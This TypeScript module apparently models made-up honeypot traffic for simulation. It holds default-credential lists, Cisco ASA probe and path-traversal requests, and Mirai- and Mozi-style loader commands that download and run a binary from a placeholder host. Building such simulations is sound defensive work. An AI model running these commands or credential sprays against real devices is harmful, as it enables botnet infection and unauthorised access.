/** Who comes to a made-up honeypot, and what they do there. Tokens and file names are those that such malware is known for. */
import type { Random } from '../../../base/random.ts'

/** Where a session leads: the record kinds of a sensor. */
export type Sensor = 'cowrie' | 'dionaea' | 'heralding' | 'cisco-asa'

export interface Attack {
  readonly sensor: Sensor
  /** Of all connections. */
  readonly share: number
  /** Key of the family in reference/honeypots/families.json that its commands show; '' none. */
  readonly family: string
  readonly service: string
  readonly port: number
  /** How many names and passwords are tried, at most. */
  readonly tries: number
  /** Whether the last one is let in. */
  readonly enters: boolean
  readonly client: string
  readonly credentials: readonly (readonly [user: string, password: string])[]
  /** What is typed, or asked for; `{host}` is where its files lie, `{n}` a number of the build. */
  readonly commands: readonly string[]
  /** The file that is fetched in the end, `{host}` and `{n}` as above; '' none. */
  readonly file: string
}

const bot: readonly (readonly [string, string])[] = [
  ['root', 'xc3511'],
  ['root', 'vizxv'],
  ['admin', 'admin'],
  ['root', '888888'],
  ['root', 'xmhdipc'],
  ['support', 'support'],
  ['root', 'juantech'],
  ['root', 'Zte521'],
  ['root', 'hi3518'],
]
const common: readonly (readonly [string, string])[] = [
  ['root', '123456'],
  ['root', 'password'],
  ['admin', '12345678'],
  ['root', 'P@ssw0rd'],
  ['ubuntu', 'ubuntu'],
  ['oracle', 'oracle'],
  ['test', 'test'],
  ['root', 'Aa123456'],
  ['user', ''],
  ['postgres', 'postgres'],
]

const none = { family: '', commands: [], file: '', client: '' } as const
const telnet = { sensor: 'cowrie', service: 'telnet', port: 23, client: '' } as const
const ssh = { sensor: 'cowrie', service: 'ssh', port: 22 } as const

/** A bot of Mirai's kin: its shell incantation, its token, and its loader. */
function mirai(family: string, share: number, token: string, path: string): Attack {
  return {
    ...telnet,
    share,
    family,
    tries: 3,
    enters: true,
    credentials: bot,
    commands: [
      'enable',
      'system',
      'shell',
      'sh',
      `/bin/busybox ${token}`,
      `cd /tmp || cd /var/run; /bin/busybox wget http://{host}${path} -O - > .x; /bin/busybox chmod 777 .x; ./.x telnet`,
    ],
    file: `http://{host}${path}`,
  }
}

export const attacks: readonly Attack[] = [
  { ...none, ...telnet, share: 21, tries: 0, enters: false, credentials: [] },
  { ...none, ...ssh, share: 15, tries: 0, enters: false, credentials: [], client: 'SSH-2.0-Go' },
  {
    ...none,
    ...ssh,
    share: 17,
    tries: 3,
    enters: false,
    credentials: common,
    client: 'SSH-2.0-libssh_0.9.6',
  },
  {
    ...none,
    sensor: 'dionaea',
    share: 14,
    service: 'smbd',
    port: 445,
    tries: 0,
    enters: false,
    credentials: [],
  },
  {
    ...none,
    sensor: 'dionaea',
    share: 3,
    service: 'mssqld',
    port: 1433,
    tries: 2,
    enters: false,
    credentials: [
      ['sa', ''],
      ['sa', '123456'],
    ],
  },
  {
    ...none,
    sensor: 'heralding',
    share: 6,
    service: 'vnc',
    port: 5900,
    tries: 1,
    enters: false,
    credentials: [['', '1234']],
  },
  {
    ...none,
    sensor: 'cisco-asa',
    share: 2,
    service: 'https',
    port: 8443,
    tries: 0,
    enters: false,
    credentials: [],
    commands: [
      'GET /+CSCOE+/logon.html HTTP/1.1',
      'GET /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../ HTTP/1.1',
    ],
  },
  mirai('mirai', 8, 'MIRAI', '/bins/mirai.mips'),
  mirai('satori', 3, 'SATORI', '/bins/satori.arm7'),
  mirai('kai', 2, 'KAI', '/kai/kai.mpsl'),
  mirai('sora', 2, 'SORA', '/bins/sora.x86'),
  mirai('miori', 1, 'MIORI', '/miori.mips'),
  mirai('boat', 1, 'BOAT', '/bins/boat.arm'),
  {
    ...telnet,
    share: 3,
    family: 'mozi',
    tries: 4,
    enters: true,
    credentials: bot,
    commands: ['sh', 'cd /tmp; wget http://{host}:4{n}/Mozi.m -O .m; chmod 777 .m; ./.m'],
    file: 'http://{host}:4{n}/Mozi.m',
  },
  {
    ...ssh,
    share: 2,
    family: '',
    tries: 2,
    enters: true,
    credentials: common,
    client: 'SSH-2.0-libssh2_1.10.0',
    commands: ['uname -a', 'nproc', 'grep -c processor /proc/cpuinfo', 'w', 'last -5'],
    file: '',
  },
]

/** `{host}` and `{n}` filled in. */
export function filled(text: string, host: string, build: number): string {
  return text.replaceAll('{host}', host).replaceAll('{n}', String(100 + build))
}

/** How many tries of at most so many. */
export function triesOf(random: Random, { tries, enters }: Attack): number {
  return tries === 0 ? 0 : enters ? tries : 1 + random.below(tries)
}
